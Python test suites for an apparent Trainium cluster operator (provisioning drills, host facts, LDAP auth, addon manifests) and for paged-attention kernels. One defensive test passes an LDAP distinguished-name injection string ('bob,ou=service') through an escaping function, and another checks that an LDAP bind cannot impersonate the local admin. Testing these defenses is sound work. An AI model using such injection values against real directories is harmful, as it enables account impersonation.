    sample = nm.fake_monitor_sample(n_devices=2, cores_per_device=8)
    sample["job"] = {"tokens_per_s": 100000.0,
                     "flops_per_token": 1.2e9, "n_cores": 16}
    text = nm.to_prometheus(sample, node="n0")
    assert 'ko_job_tokens_per_s{node="n0"} 100000.0' in text
    line = [l for l in text.splitlines() if l.startswith("ko_job_mfu")][0]
    mfu = float(line.split()[-1])
    assert abs(mfu - (1e5 * 1.2e9) / (16 * 78.6e12)) < 1e-4


# -- 16-node drill -----------------------------------------------------

def test_16_node_provision_drill():
    """Fake-runner 16-node trn2 bring-up: every phase timed, hosts carry
    neuron facts, monitor rollup scales (SURVEY §6 <20-min target is an
    instrumentation problem — prove the instrumentation at 16 nodes)."""
    db, runner, engine, svc = _mk_stack()
    doc = _cluster_doc(db, "big", n_nodes=16, provider="ec2",
                       neuron=True, efa=True)
    task = svc.create(db.get("clusters", doc["id"]))
    assert engine.wait(task["id"], timeout=60)
    task = db.get("tasks", task["id"])
    assert task["status"] == "Success"
    # all 19 phases (create + neuron + efa + post-check) timed
    assert len(task["phases"]) >= 19
    for p in task["phases"]:
        assert p["started_at"] and p["finished_at"], p
    hosts = [h for h in db.list("hosts") if h.get("cluster_id") == doc["id"]]
    assert len(hosts) == 16
    assert all(h["facts"]["neuron_devices"] == 16 for h in hosts)
    assert all(h["facts"]["efa_interfaces"] == 16 for h in hosts)
    engine.shutdown()


def test_bundled_dashboard_synced_into_mirror(tmp_path):
    from conftest import manifest_dict
    from kubeoperator_trn.cluster.offline_repo import sync_plan

    plan = sync_plan(str(tmp_path), manifest_dict())
    assert os.path.exists(
        tmp_path / "monitoring" / "dashboards" / "trn2-mfu.json")
    assert not any("bundled:" in a.get("upstream", "") for a in plan["missing"])


def test_project_filter_only_on_scoped_tables():
    from kubeoperator_trn.cluster.api import Api
    from kubeoperator_trn.cluster.db import DB

    db = DB(":memory:")
    api = Api(db, service=None, require_auth=False)
    db.put("projects", "p1", {"id": "p1", "name": "team-a"}, name="team-a")
    # unscoped tables ignore ?project= instead of returning []
    status, out = api.handle("GET", "/api/v1/projects?project=team-a", None, {})
    status, out = api.list_(None, "projects")( {"project": "team-a"})
    assert [i["id"] for i in out["items"]] == ["p1"]


# -- host facts gathering ----------------------------------------------

def test_facts_gathering_via_api():
    from kubeoperator_trn.cluster.api import Api
    from kubeoperator_trn.cluster.facts import FactsGatherer, FakeFactsExecutor

    db = DB(":memory:")
    api = Api(db, service=None, require_auth=False)
    db.put("hosts", "h1", {"id": "h1", "name": "trn-node", "ip": "10.0.0.9",
                           "credential_id": "", "port": 22, "facts": {},
                           "status": "Pending"}, name="trn-node")
    neuron_json = json.dumps([{"neuron_device": i, "nc_count": 8}
                              for i in range(16)])
    api.facts_gatherer = FactsGatherer(db, FakeFactsExecutor({
        "cpus": "192\n",
        "meminfo": "MemTotal:  791773824 kB\n",
        "os": 'PRETTY_NAME="Ubuntu 22.04.4 LTS"\n',
        "neuron_ls": neuron_json,
        "fi_info": "16\n",
    }))
    status, out = api.handle("POST", "/api/v1/hosts/h1/facts", {}, {})
    assert status == 200, out
    f = out["facts"]
    assert f["cpus"] == 192
    assert f["memory_gb"] == 755.1  # KiB -> GiB
    assert f["neuron_devices"] == 16 and f["neuron_cores"] == 128
    assert f["efa_interfaces"] == 16
    assert f["os"].startswith("Ubuntu")
    host = db.get("hosts", "h1")
    assert host["status"] == "Running"
    # facts now feed inventory group membership
    from kubeoperator_trn.cluster.inventory import render_inventory

    cluster = {"id": "c", "name": "c", "spec": {"version": "v"}, "nodes": [
        {"name": "n0", "host_id": "h1", "role": "worker", "status": "x"}]}
    inv = render_inventory(cluster, db.list("hosts"), [])
    assert "neuron" in inv["all"]["children"]
    assert "efa" in inv["all"]["children"]


def test_facts_gathering_missing_host_404():
    from kubeoperator_trn.cluster.api import Api

    db = DB(":memory:")
    api = Api(db, service=None, require_auth=False)
    status, out = api.handle("POST", "/api/v1/hosts/ghost/facts", {}, {})
    assert status == 404


# -- auth backends + i18n ----------------------------------------------

def test_ldap_backend_auto_provisions():
    from kubeoperator_trn.cluster.api import Api
    from kubeoperator_trn.cluster.auth import FakeLdapClient

    db = DB(":memory:")
    api = Api(db, service=None, require_auth=True, admin_password="pw")
    db.put("settings", "auth_backends",
           {"id": "auth_backends", "name": "auth_backends",
            "value": ["local", "ldap"]})
    db.put("settings", "ldap", {
        "id": "ldap", "name": "ldap",
        "value": {"url": "ldap://dir.corp", 
                  "user_dn": "uid={username},ou=people,dc=corp"}})
    api.ldap_client = FakeLdapClient(
        {"uid=alice,ou=people,dc=corp": "s3cret"})

    # local admin still works
    status, out = api.login({"username": "admin", "password": "pw"})
    assert status == 200
    # ldap user binds + is auto-provisioned
    status, out = api.login({"username": "alice", "password": "s3cret"})
    assert status == 200 and out["token"]
    alice = db.get_by_name("users", "alice")
    assert alice["source"] == "ldap" and "password_hash" not in alice
    # wrong ldap password -> 401
    import pytest as _p
    from kubeoperator_trn.cluster.api import ApiError
    with _p.raises(ApiError):
        api.login({"username": "alice", "password": "wrong"})


def test_i18n_error_messages():
    from kubeoperator_trn.cluster.api import Api
    from kubeoperator_trn.cluster.i18n import pick_language, t

    assert pick_language("zh-CN,zh;q=0.9,en;q=0.8") == "zh"
    assert pick_language("en-US,en;q=0.5") == "en"
    assert pick_language(None) == "en"
    assert t("not_found", "zh", what="cluster") == "cluster 不存在"

    db = DB(":memory:")
    api = Api(db, service=None, require_auth=True, admin_password="pw")
    status, out = api.handle("GET", "/api/v1/clusters", None,
                             {"Accept-Language": "zh-CN,zh;q=0.9"})
    assert status == 401 and out["error"] == "未授权"
    status, out = api.handle("GET", "/api/v1/clusters", None, {})
    assert status == 401 and out["error"] == "unauthorized"


def test_facts_gathering_unreachable_host_is_loud():
    from kubeoperator_trn.cluster.api import Api
    from kubeoperator_trn.cluster.facts import FactsGatherer, FakeFactsExecutor

    db = DB(":memory:")
    api = Api(db, service=None, require_auth=False)
    db.put("hosts", "h2", {"id": "h2", "name": "down", "ip": "10.0.0.66",
                           "credential_id": "", "port": 22, "facts": {},
                           "status": "Pending"}, name="down")
    api.facts_gatherer = FactsGatherer(db, FakeFactsExecutor(fail=True))
    status, out = api.handle("POST", "/api/v1/hosts/h2/facts", {}, {})
    assert status == 502, out
    assert "Connection refused" in out["error"]
    assert db.get("hosts", "h2")["status"] == "Unreachable"


def test_ldap_dn_injection_escaped():
    from kubeoperator_trn.cluster.auth import escape_dn_value

    assert escape_dn_value("bob,ou=service") == "bob\\,ou\\=service"
    assert escape_dn_value(" lead") == "\\ lead"
    assert escape_dn_value("plain.user") == "plain.user"


def test_single_round_trip_probe():
    from kubeoperator_trn.cluster.facts import (
        combined_probe_command, split_probe_output,
    )

    cmd = combined_probe_command()
    assert cmd.count("KO_PROBE:") == 5
    out = split_probe_output("KO_PROBE:cpus\n8\nKO_PROBE:meminfo\nMemTotal: 1 kB")
    assert out["cpus"] == "8"


def test_addon_manifests_valid_and_bundled(tmp_path):
    """Shipped addon manifests parse as k8s YAML with the expected
    kinds, and land in the mirror at the paths the playbooks fetch."""
    import yaml

    import kubeoperator_trn.cluster as cl
    from kubeoperator_trn.cluster.offline_repo import sync_plan

    base = os.path.join(os.path.dirname(cl.__file__), "addons")
    expectations = {
        "k8s-neuron-device-plugin-rbac.yml": {"ClusterRole", "ServiceAccount",
                                              "ClusterRoleBinding"},
        "k8s-neuron-device-plugin.yml": {"DaemonSet"},
        "neuron-monitor-exporter.yml": {"Namespace", "DaemonSet"},
        "ko-scheduler-extender.yml": {"ConfigMap", "Deployment", "Service"},
        "nfs-provisioner.yaml": {"ServiceAccount", "ClusterRole",
                                 "ClusterRoleBinding", "Deployment",
                                 "StorageClass"},
    }
    for fname, kinds in expectations.items():
        docs = [d for d in yaml.safe_load_all(open(os.path.join(base, fname)))
                if d]
        assert {d["kind"] for d in docs} == kinds, fname

    from conftest import manifest_dict

    plan = sync_plan(str(tmp_path), manifest_dict())
    for rel in ["neuron/k8s-neuron-device-plugin.yml",
                "neuron/neuron-monitor-exporter.yml",
                "neuron/ko-scheduler-extender.yml",
                "storage/nfs-provisioner-latest.yaml"]:
        cat, name = rel.split("/", 1)
        assert (tmp_path / cat / name).exists(), rel
    assert not any("bundled:" in a.get("upstream", "") for a in plan["missing"])


# -- chunked fused CE head: pp/tp/moe loss-path parity ------------------
# (ISSUE 2 tentpole: every loss path shares ops/losses.py's chunked-CE
# core.  The full shard_map paths need the neuron image's newer jax —
# blocked on this image like test_sharding — so tp is exercised through
# vmap-with-axis-name collectives and pp through its extracted head fn.)

def _tiny_llama():
    import jax

    from kubeoperator_trn.models import llama

    cfg = llama.PRESETS["llama3_tiny"]
    params = llama.init_params(cfg, jax.random.key(0))
    return cfg, params


def test_moe_loss_chunked_matches_dense():
    import jax
    import jax.numpy as jnp
    import numpy as np

    from kubeoperator_trn.models import moe

    cfg = moe.MOE_PRESETS["moe_tiny"]
    params = moe.init_params(cfg, jax.random.key(1))
    toks = jax.random.randint(jax.random.key(2), (2, 17), 0, cfg.vocab_size)
    batch = {"inputs": toks[:, :-1].astype(jnp.int32),
             "targets": toks[:, 1:].astype(jnp.int32)}
    dense = float(moe.loss_fn(cfg, params, batch, ce_chunk=0))
    for chunk in (5, 16, 64):
        got = float(moe.loss_fn(cfg, params, batch, ce_chunk=chunk))
        assert abs(got - dense) / abs(dense) <= 1e-6, (chunk, got, dense)
    gd = jax.grad(lambda p: moe.loss_fn(cfg, p, batch, ce_chunk=0))(params)
    gc = jax.grad(lambda p: moe.loss_fn(cfg, p, batch, ce_chunk=5))(params)
    flat_d, _ = jax.tree_util.tree_flatten(gd)
    flat_c, _ = jax.tree_util.tree_flatten(gc)
    # moe_tiny computes in bf16: the chunked bwd runs its matmuls with a
    # bf16 softmax cotangent (intentional — PE-array throughput) where
    # dense autodiff keeps it f32, so grads agree only to bf16 precision.
    for a, b in zip(flat_d, flat_c):
        np.testing.assert_allclose(np.asarray(a), np.asarray(b),
                                   rtol=2e-2, atol=2e-3)


def test_pp_head_nll_sum_chunked_matches_dense():
    """parallel.pipeline.head_nll_sum (the per-microbatch head the GPipe
    scan runs on every stage) — chunked vs dense, value and grads."""
    import jax
    import jax.numpy as jnp
    import numpy as np

    from kubeoperator_trn.parallel import pipeline

    cfg, params = _tiny_llama()
    y = jax.random.normal(jax.random.key(3), (2, 16, cfg.dim),
                          jnp.dtype(cfg.compute_dtype))
    tg = jax.random.randint(jax.random.key(4), (2, 16), 0, cfg.vocab_size)

    def mean_loss(params, y, chunk):
        s, n = pipeline.head_nll_sum(cfg, params, y, tg, ce_chunk=chunk)
        return s / n

    dense = float(mean_loss(params, y, 0))
    for chunk in (5, 32, 4096):
        got = float(mean_loss(params, y, chunk))
        assert abs(got - dense) / abs(dense) <= 1e-6, (chunk, got, dense)
    gd = jax.grad(mean_loss, argnums=(0, 1))(params, y, 0)
    gc = jax.grad(mean_loss, argnums=(0, 1))(params, y, 5)
    flat_d, _ = jax.tree_util.tree_flatten(gd)
    flat_c, _ = jax.tree_util.tree_flatten(gc)
    # bf16-precision agreement: see test_moe_loss_chunked_matches_dense.
    for a, b in zip(flat_d, flat_c):
        np.testing.assert_allclose(np.asarray(a), np.asarray(b),
                                   rtol=2e-2, atol=2e-4)


def test_tp_chunked_nll_sharded_matches_dense():
    """The vocab-sharded chunked core (losses.chunked_nll_sharded) under
    vmap-with-axis-name collectives: 2 vocab shards, loss + grads vs the
    dense single-shard reference.  grad runs INSIDE the vmap (as it does
    on-device under shard_map, where the vjp is shard_mapped too)."""
    import jax
    import jax.numpy as jnp
    import numpy as np

    from kubeoperator_trn.ops import losses

    rng = np.random.default_rng(5)
    t_len, d, v, tp = 18, 8, 24, 2
    x = jnp.asarray(rng.normal(size=(t_len, d)), jnp.float32)
    w = jnp.asarray(rng.normal(size=(d, v)), jnp.float32)
    tg = jnp.asarray(rng.integers(0, v, t_len), jnp.int32)
    w_local = jnp.stack([w[:, : v // tp], w[:, v // tp:]])  # [tp, D, V/tp]
    starts = jnp.arange(tp, dtype=jnp.int32) * (v // tp)

    def per_shard(ws, vs):
        def local_loss(x, ws):
            nll = losses.chunked_nll_sharded(x, ws, tg, vs, axis="tp",
                                             chunk=5)
            return jnp.mean(nll)
        return jax.value_and_grad(local_loss, argnums=(0, 1))(x, ws)

    loss, (gx, gw) = jax.vmap(per_shard, axis_name="tp")(w_local, starts)

    def dense_loss(x, w):
        logits = x @ w
        nll = jax.nn.logsumexp(logits, -1) - jnp.take_along_axis(
            logits, tg[:, None], -1)[:, 0]
        return jnp.mean(nll)

    want, (gx_d, gw_d) = jax.value_and_grad(dense_loss, argnums=(0, 1))(x, w)
    # the nll (and so the loss) is replicated across shards
    np.testing.assert_allclose(np.asarray(loss), float(want), rtol=1e-6)
    # each shard's dx is the completed (psum'd) full gradient
    for r in range(tp):
        np.testing.assert_allclose(np.asarray(gx[r]), np.asarray(gx_d),
                                   rtol=1e-5, atol=1e-6)
    np.testing.assert_allclose(
        np.asarray(jnp.concatenate([gw[0], gw[1]], axis=1)),
        np.asarray(gw_d), rtol=1e-5, atol=1e-6)


def test_tp_dense_fallback_cross_entropy_matches():
    """_tp_cross_entropy (the ce_chunk=0 fallback, now built on the
    shared losses helpers) still matches the dense reference."""
    import jax
    import jax.numpy as jnp
    import numpy as np

    from kubeoperator_trn.parallel.tensor_parallel import _tp_cross_entropy

    rng = np.random.default_rng(6)
    b, s, v, tp = 2, 7, 20, 2
    logits = jnp.asarray(rng.normal(size=(b, s, v)), jnp.float32)
    tg = jnp.asarray(rng.integers(0, v, (b, s)), jnp.int32)

    def per_shard(lg_local, vs):
        return _tp_cross_entropy(lg_local, tg, vs, axis="tp")

    lg_sh = jnp.stack([logits[..., : v // tp], logits[..., v // tp:]])
    starts = jnp.arange(tp, dtype=jnp.int32) * (v // tp)
    (nll_sum, n) = jax.vmap(per_shard, axis_name="tp")(lg_sh, starts)
    z = np.asarray(logits) - np.asarray(logits).max(-1, keepdims=True)
    logp = z - np.log(np.exp(z).sum(-1, keepdims=True))
    want = -np.take_along_axis(logp, np.asarray(tg)[..., None], -1).sum()
    np.testing.assert_allclose(np.asarray(nll_sum), want, rtol=1e-5)
    assert np.asarray(n).tolist() == [b * s, b * s]


def test_ldap_cannot_impersonate_local_user():
    """A successful LDAP bind must not mint a token for a local-source
    account of the same name (code-review r2 batch-4 finding)."""
    from kubeoperator_trn.cluster.api import Api, ApiError
    from kubeoperator_trn.cluster.auth import FakeLdapClient

    db = DB(":memory:")
    api = Api(db, service=None, require_auth=True, admin_password="localpw")
    db.put("settings", "auth_backends",
           {"id": "auth_backends", "name": "auth_backends",
            "value": ["local", "ldap"]})
    db.put("settings", "ldap", {
        "id": "ldap", "name": "ldap",
        "value": {"url": "ldap://dir", "user_dn": "uid={username},dc=corp"}})
    # directory has an 'admin' entry with a DIFFERENT password
    api.ldap_client = FakeLdapClient({"uid=admin,dc=corp": "ldappw"})
    import pytest as _p
    with _p.raises(ApiError):  # must NOT fall through to the local admin
        api.login({"username": "admin", "password": "ldappw"})
    # the real local password still works
    status, out = api.login({"username": "admin", "password": "localpw"})
    assert status == 200
