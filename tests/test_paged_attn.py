"""Paged-attention kernel path (ISSUE 17/18): resolution, parity, bytes.

The serving planes get a second attention implementation — the
block-table-walking BASS kernels — next to `_attend_cached`'s
gathered-copy einsum.  These tests pin the pieces that run on CPU:

  - `resolve_paged_attn_impl` precedence (explicit > env > auto) and
    the engine-side per-dispatch-class geometry resolution in
    `serving_attn_impl` / `serving_attn_geometry`;
  - `paged_attend_blockwise` (the decode kernel's pure-jax structural
    twin: online softmax across page tiles, no gathered copy) against
    `_attend_cached` across dtypes, GQA ratios, ragged valid_len and
    non-dividing page tiles — including the recycled-block staleness
    regression (poisoned pages past valid_len must not leak in);
  - `paged_prefill_blockwise` (the chunked-prefill kernel's twin,
    ISSUE 18: fused fresh-KV scatter + history-page walk + in-chunk
    causal block under one online softmax) against scatter-then-
    `_attend_cached`, including the write-once pool equivalence;
  - scheduler-level temp-0 token parity between an explicitly pinned
    "jax" scheduler and the auto-resolved one, plus the
    ko_work_infer_attn_bytes_total{impl} accounting (decode AND
    prefill dispatches), the TTFT queue/compute split, and the healthz
    `attn_report` fragment with its prefill rows;
  - `step_attn_bytes` / `prefill_attn_bytes` analytic models and the
    autotune candidate surfaces for the ``paged_attn_bass`` and
    ``prefill_attn_bass`` tags.

Bass-vs-jax numerics live in tests/test_kernels.py (concourse-gated);
the end-to-end bass parity test at the bottom self-skips off-neuron.
"""

import numpy as np
import pytest

import jax.numpy as jnp

from kubeoperator_trn.infer import engine
from kubeoperator_trn.infer.engine import _attend_cached
from kubeoperator_trn.infer.scheduler import (
    ContinuousBatchingScheduler, SchedulerConfig)
from kubeoperator_trn.kernels import bass_available
from kubeoperator_trn.kernels.paged_attn_bass import (
    resolve_paged_config, supported_geometry)
from kubeoperator_trn.kernels.prefill_attn_bass import (
    prefill_supported_geometry, resolve_prefill_config)
from kubeoperator_trn.models import llama
from kubeoperator_trn.ops.paged_attn import (
    paged_attend_blockwise, paged_prefill_blockwise, prefill_attn_bytes,
    resolve_paged_attn_impl, step_attn_bytes)
from kubeoperator_trn.telemetry import MetricsRegistry

CFG = llama.PRESETS["llama3_tiny"]


@pytest.fixture(scope="module")
def params():
    return llama.init_params_numpy(CFG, 7)


def make_sched(params, **kw):
    kw.setdefault("slots", 4)
    kw.setdefault("block_size", 8)
    kw.setdefault("prefill_chunk", 8)
    sc = SchedulerConfig(**kw)
    return ContinuousBatchingScheduler(CFG, params, sc,
                                       registry=MetricsRegistry())


def drain(sched, max_steps=2000):
    steps = 0
    while sched.pending:
        sched.step()
        steps += 1
        assert steps < max_steps, "scheduler did not converge"
    return steps


# ------------------------------------------------------- resolution

def test_resolve_impl_precedence(monkeypatch):
    monkeypatch.delenv("KO_PAGED_ATTN_IMPL", raising=False)
    auto = resolve_paged_attn_impl()
    assert auto == ("bass" if bass_available() else "jax")
    monkeypatch.setenv("KO_PAGED_ATTN_IMPL", "jax")
    assert resolve_paged_attn_impl() == "jax"
    # explicit beats env
    monkeypatch.setenv("KO_PAGED_ATTN_IMPL", "bass")
    assert resolve_paged_attn_impl("jax") == "jax"
    assert resolve_paged_attn_impl() == "bass"


def test_resolve_impl_rejects_unknown(monkeypatch):
    monkeypatch.setenv("KO_PAGED_ATTN_IMPL", "gpu")
    with pytest.raises(ValueError):
        resolve_paged_attn_impl()
    with pytest.raises(ValueError):
        resolve_paged_attn_impl("nope")


def test_supported_geometry_envelope():
    assert supported_geometry(1, 8, 2, 64, 16)
    assert supported_geometry(4, 8, 2, 128, 128)      # g*sq = 16
    assert not supported_geometry(1, 8, 2, 256, 16)   # hd > 128
    assert not supported_geometry(1, 8, 2, 64, 256)   # bs > 128
    assert not supported_geometry(64, 8, 2, 64, 16)   # g*sq > 128
    assert not supported_geometry(1, 9, 2, 64, 16)    # heads not divisible


def test_serving_attn_impl_geometry_fallback(monkeypatch):
    # force bass, then hand the resolver a pool geometry the kernel
    # cannot tile: it must drop to jax, not crash at dispatch time
    import dataclasses
    monkeypatch.setenv("KO_PAGED_ATTN_IMPL", "bass")
    wide = dataclasses.replace(CFG, dim=CFG.n_heads * 256)  # head_dim 256
    assert engine.serving_attn_impl(wide, 8) == "jax"
    monkeypatch.setenv("KO_PAGED_ATTN_IMPL", "jax")
    assert engine.serving_attn_impl(CFG, 8) == "jax"


def test_resolve_paged_config_precedence(monkeypatch):
    monkeypatch.delenv("KO_PAGED_ATTN_PT", raising=False)
    monkeypatch.delenv("KO_PAGED_ATTN_ACC", raising=False)
    monkeypatch.setenv("KO_AUTOTUNE", "0")
    assert resolve_paged_config(16, 8) == (1, "pool")
    assert resolve_paged_config(16, 8, pt=4, acc="f32") == (4, "f32")
    monkeypatch.setenv("KO_PAGED_ATTN_PT", "8")
    monkeypatch.setenv("KO_PAGED_ATTN_ACC", "f32")
    assert resolve_paged_config(16, 8) == (8, "f32")
    # clipped to the PSUM bank (pt*bs <= 512) and the table width
    assert resolve_paged_config(128, 8) == (4, "f32")
    assert resolve_paged_config(16, 2) == (2, "f32")


# ------------------------------------------- blockwise numerics (CPU)

def _pool_case(rng, b, sq, h, kvh, hd, bs, mb, dtype):
    nb = b * mb + 1
    q = jnp.asarray(rng.normal(size=(b, sq, h, hd)), dtype)
    ck = jnp.asarray(rng.normal(size=(nb, bs, kvh, hd)), dtype)
    cv = jnp.asarray(rng.normal(size=(nb, bs, kvh, hd)), dtype)
    tables = jnp.asarray(
        rng.permutation(nb - 1)[:b * mb].reshape(b, mb) + 1, jnp.int32)
    return q, ck, cv, tables


@pytest.mark.parametrize("dtype", [jnp.float32, jnp.bfloat16])
@pytest.mark.parametrize("h,kvh", [(4, 1), (4, 2), (4, 4)])
def test_blockwise_matches_attend_cached(dtype, h, kvh):
    rng = np.random.default_rng(0)
    b, hd, bs, mb = 3, 16, 4, 5
    q, ck, cv, tables = _pool_case(rng, b, 1, h, kvh, hd, bs, mb, dtype)
    valid = jnp.asarray([1, 7, 20], jnp.int32)      # ragged, incl. full
    qp = (valid - 1)[:, None]
    want = _attend_cached(q, ck, cv, qp, kvh, valid, tables)
    tol = 1e-5 if dtype == jnp.float32 else 2e-2
    for pt in (1, 2, 3, 5):                         # incl. non-dividing
        got = paged_attend_blockwise(q, ck, cv, qp, kvh, valid, tables,
                                     page_tile=pt)
        assert got.dtype == want.dtype
        np.testing.assert_allclose(
            np.asarray(got, np.float32), np.asarray(want, np.float32),
            rtol=tol, atol=tol)


def test_blockwise_verify_shape_matches_attend_cached():
    # the verify step feeds Sq = k+1 rows with per-row causal bounds
    rng = np.random.default_rng(1)
    b, sq, h, kvh, hd, bs, mb = 3, 4, 4, 2, 16, 4, 5
    q, ck, cv, tables = _pool_case(rng, b, sq, h, kvh, hd, bs, mb,
                                   jnp.float32)
    lens = jnp.asarray([0, 5, 13], jnp.int32)
    qp = lens[:, None] + jnp.arange(sq)[None, :]
    valid = lens + sq
    want = _attend_cached(q, ck, cv, qp, kvh, valid, tables)
    got = paged_attend_blockwise(q, ck, cv, qp, kvh, valid, tables,
                                 page_tile=2)
    np.testing.assert_allclose(np.asarray(got), np.asarray(want),
                               rtol=1e-5, atol=1e-5)


def test_blockwise_ignores_stale_recycled_blocks():
    # regression: a freed block re-enters another slot's table while the
    # old table row still points at it.  Everything past valid_len —
    # including whole poisoned pages — must not move the output.
    rng = np.random.default_rng(2)
    b, h, kvh, hd, bs, mb = 2, 4, 2, 16, 4, 6
    q, ck, cv, tables = _pool_case(rng, b, 1, h, kvh, hd, bs, mb,
                                   jnp.float32)
    valid = jnp.asarray([5, 9], jnp.int32)
    qp = (valid - 1)[:, None]
    base = paged_attend_blockwise(q, ck, cv, qp, kvh, valid, tables,
                                  page_tile=2)
    # poison every pool block not covered by a valid page
    keep = set()
    tb = np.asarray(tables)
    for i, vl in enumerate(np.asarray(valid)):
        for j in range(-(-int(vl) // bs)):
            keep.add(int(tb[i, j]))
    mask = np.ones(ck.shape[0], bool)
    mask[sorted(keep)] = False
    ck2 = jnp.asarray(np.where(mask[:, None, None, None], 1e4,
                               np.asarray(ck)), jnp.float32)
    cv2 = jnp.asarray(np.where(mask[:, None, None, None], -1e4,
                               np.asarray(cv)), jnp.float32)
    got = paged_attend_blockwise(q, ck2, cv2, qp, kvh, valid, tables,
                                 page_tile=2)
    np.testing.assert_array_equal(np.asarray(got), np.asarray(base))


def test_verify_k0_column_matches_decode():
    # a verify dispatch with one fed token per slot is exactly a decode
    # step: row 0 of the Sq=1 verify equals the decode output
    rng = np.random.default_rng(3)
    b, h, kvh, hd, bs, mb = 3, 4, 2, 16, 4, 5
    q, ck, cv, tables = _pool_case(rng, b, 1, h, kvh, hd, bs, mb,
                                   jnp.float32)
    valid = jnp.asarray([2, 8, 17], jnp.int32)
    qp = (valid - 1)[:, None]
    dec = paged_attend_blockwise(q, ck, cv, qp, kvh, valid, tables)
    ver = paged_attend_blockwise(q, ck, cv, qp, kvh, valid, tables,
                                 page_tile=3)
    np.testing.assert_allclose(np.asarray(ver), np.asarray(dec),
                               rtol=1e-6, atol=1e-6)


# ------------------------------- chunked-prefill twin numerics (CPU)

def _prefill_case(rng, b, c, h, kvh, hd, bs, mb, dtype, starts, nvs):
    nb = b * mb + 1
    q = jnp.asarray(rng.normal(size=(b, c, h, hd)), dtype)
    knew = jnp.asarray(rng.normal(size=(b, c, kvh, hd)), dtype)
    vnew = jnp.asarray(rng.normal(size=(b, c, kvh, hd)), dtype)
    ck = jnp.asarray(rng.normal(size=(nb, bs, kvh, hd)), dtype)
    cv = jnp.asarray(rng.normal(size=(nb, bs, kvh, hd)), dtype)
    tables = jnp.asarray(
        rng.permutation(nb - 1)[:b * mb].reshape(b, mb) + 1, jnp.int32)
    start = jnp.asarray(starts, jnp.int32)
    nv = jnp.asarray(nvs, jnp.int32)
    q_pos = start[:, None] + jnp.arange(c, dtype=jnp.int32)[None]
    wm = jnp.arange(c, dtype=jnp.int32)[None] < nv[:, None]
    return q, knew, vnew, ck, cv, tables, q_pos, start + nv, wm


def _scatter_ref(ck, cv, knew, vnew, tables, q_pos, wm, bs, mb):
    """The engine's jax scatter (reference for the fused write)."""
    kvh, hd = ck.shape[-2], ck.shape[-1]
    li = jnp.clip(q_pos // bs, 0, mb - 1)
    phys = jnp.where(wm, jnp.take_along_axis(tables, li, axis=1), 0)
    off = jnp.where(wm, q_pos % bs, 0)
    ck2 = ck.at[phys.reshape(-1), off.reshape(-1)].set(
        knew.reshape(-1, kvh, hd))
    cv2 = cv.at[phys.reshape(-1), off.reshape(-1)].set(
        vnew.reshape(-1, kvh, hd))
    return ck2, cv2


@pytest.mark.parametrize("dtype", [jnp.float32, jnp.bfloat16])
@pytest.mark.parametrize("h,kvh", [(4, 1), (4, 2), (4, 4)])
def test_prefill_blockwise_matches_attend_cached(dtype, h, kvh):
    # ragged history (incl. zero and non-page-aligned starts) and a
    # ragged chunk tail, against scatter-then-gathered-copy reference
    rng = np.random.default_rng(5)
    b, c, hd, bs, mb = 3, 8, 16, 4, 8
    case = _prefill_case(rng, b, c, h, kvh, hd, bs, mb, dtype,
                         starts=[0, 9, 16], nvs=[8, 3, 8])
    q, knew, vnew, ck, cv, tables, q_pos, valid, wm = case
    ck_ref, cv_ref = _scatter_ref(ck, cv, knew, vnew, tables, q_pos,
                                  wm, bs, mb)
    want = _attend_cached(q, ck_ref, cv_ref, q_pos, kvh, valid, tables)
    tol = 2e-5 if dtype == jnp.float32 else 2e-2
    for pt in (1, 2, 3):                            # incl. non-dividing
        got, ck2, cv2 = paged_prefill_blockwise(
            q, knew, vnew, ck, cv, q_pos, kvh, valid, tables, wm,
            page_tile=pt)
        assert got.dtype == want.dtype
        np.testing.assert_allclose(
            np.asarray(got, np.float32), np.asarray(want, np.float32),
            rtol=tol, atol=tol)
        # write-once invariant: the fused scatter lands the same pool
        np.testing.assert_array_equal(np.asarray(ck2), np.asarray(ck_ref))
        np.testing.assert_array_equal(np.asarray(cv2), np.asarray(cv_ref))


def test_prefill_blockwise_chunk_boundaries():
    # a prompt split into chunks must equal the same prompt attended in
    # one shot: later chunks see earlier ones only through the pool
    rng = np.random.default_rng(6)
    b, c, h, kvh, hd, bs, mb = 1, 4, 4, 2, 16, 4, 6
    total = 3 * c - 2                                # ragged last chunk
    nb = b * mb + 1
    ks = jnp.asarray(rng.normal(size=(b, total, kvh, hd)), jnp.float32)
    vs = jnp.asarray(rng.normal(size=(b, total, kvh, hd)), jnp.float32)
    qs = jnp.asarray(rng.normal(size=(b, total, h, hd)), jnp.float32)
    ck = jnp.zeros((nb, bs, kvh, hd), jnp.float32)
    cv = jnp.zeros((nb, bs, kvh, hd), jnp.float32)
    tables = jnp.arange(1, mb + 1, dtype=jnp.int32)[None]
    outs = []
    for s0 in range(0, total, c):
        nv = min(c, total - s0)
        q = jnp.zeros((b, c, h, hd), jnp.float32
                      ).at[:, :nv].set(qs[:, s0:s0 + nv])
        kn = jnp.zeros((b, c, kvh, hd), jnp.float32
                       ).at[:, :nv].set(ks[:, s0:s0 + nv])
        vn = jnp.zeros((b, c, kvh, hd), jnp.float32
                       ).at[:, :nv].set(vs[:, s0:s0 + nv])
        q_pos = jnp.asarray([s0], jnp.int32)[:, None] \
            + jnp.arange(c, dtype=jnp.int32)[None]
        wm = (jnp.arange(c, dtype=jnp.int32)
              < nv)[None]
        got, ck, cv = paged_prefill_blockwise(
            q, kn, vn, ck, cv, q_pos, kvh,
            jnp.asarray([s0 + nv], jnp.int32), tables, wm, page_tile=2)
        outs.append(np.asarray(got)[:, :nv])
    chunked = np.concatenate(outs, axis=1)
    q_pos_all = jnp.arange(total, dtype=jnp.int32)[None]
    want = _attend_cached(
        qs, ck, cv, q_pos_all, kvh,
        jnp.asarray([total], jnp.int32), tables)
    np.testing.assert_allclose(chunked, np.asarray(want),
                               rtol=2e-5, atol=2e-5)


def test_prefill_blockwise_ignores_stale_blocks():
    # poisoned pool blocks past the valid history must not move the
    # output — recycled-block regression, prefill edition
    rng = np.random.default_rng(7)
    b, c, h, kvh, hd, bs, mb = 2, 4, 4, 2, 16, 4, 6
    case = _prefill_case(rng, b, c, h, kvh, hd, bs, mb, jnp.float32,
                         starts=[2, 9], nvs=[4, 3])
    q, knew, vnew, ck, cv, tables, q_pos, valid, wm = case
    base, _, _ = paged_prefill_blockwise(
        q, knew, vnew, ck, cv, q_pos, kvh, valid, tables, wm, page_tile=2)
    keep = set()
    tb = np.asarray(tables)
    for i, vl in enumerate(np.asarray(valid)):
        for j in range(-(-int(vl) // bs)):
            keep.add(int(tb[i, j]))
    mask = np.ones(ck.shape[0], bool)
    mask[sorted(keep)] = False
